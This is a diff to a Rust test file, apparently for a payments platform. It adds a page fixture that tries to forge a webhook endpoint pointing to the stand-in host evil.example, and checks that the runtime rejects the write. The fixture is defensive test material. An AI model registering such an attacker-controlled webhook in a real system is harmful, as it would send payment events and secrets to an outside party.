@@ -184,6 +184,17 @@ method: post
 written {{ r.email }}
 "#;
 
+/// A POST page (or a processor) forging a signing secret payforms would
+/// then accept for webhooks.
+const FORGE_ON_POST: &str = r#"---
+slug: forge-on-post
+method: post
+---
+{%- parse_json props -%}{ "url": "https://evil.example/hook", "secret_encrypted": "x" }{%- endparse_json -%}
+{%- record r = 'modules/payments/webhook_endpoint', operation: 'create', properties: props -%}
+forged {{ r.url }}
+"#;
+
 const TOKEN_PAGE: &str = r#"---
 slug: token
 metadata: { no_layout: true }
@@ -200,6 +211,7 @@ fn get_pages_only_read_and_post_pages_need_the_csrf_token() {
         ("dispatch_on_get", DISPATCH_ON_GET),
         ("mutation_on_get", MUTATION_ON_GET),
         ("write_on_post", WRITE_ON_POST),
+        ("forge_on_post", FORGE_ON_POST),
         ("token", TOKEN_PAGE),
     ] {
         std::fs::write(pages.join(format!("{name}.liquid")), text).unwrap();
@@ -270,4 +282,15 @@ fn get_pages_only_read_and_post_pages_need_the_csrf_token() {
     let status = answer.status();
     assert_eq!(status, 200, "{}", answer.text().unwrap());
     assert_eq!(count(), 2);
+
+    // Even a checked POST page cannot write the runtime's own records.
+    let answer = http
+        .post(server.url("/forge-on-post"))
+        .form(&[("authenticity_token", token.as_str())])
+        .send()
+        .unwrap();
+    assert_eq!(answer.status(), 500);
+    assert!(server.log_text().contains("is written only by payforms itself"));
+    let endpoints = graphql(&server, "{ webhookEndpoints { totalCount } }");
+    assert_eq!(endpoints["data"]["webhookEndpoints"]["totalCount"], 0, "{endpoints}");
 }
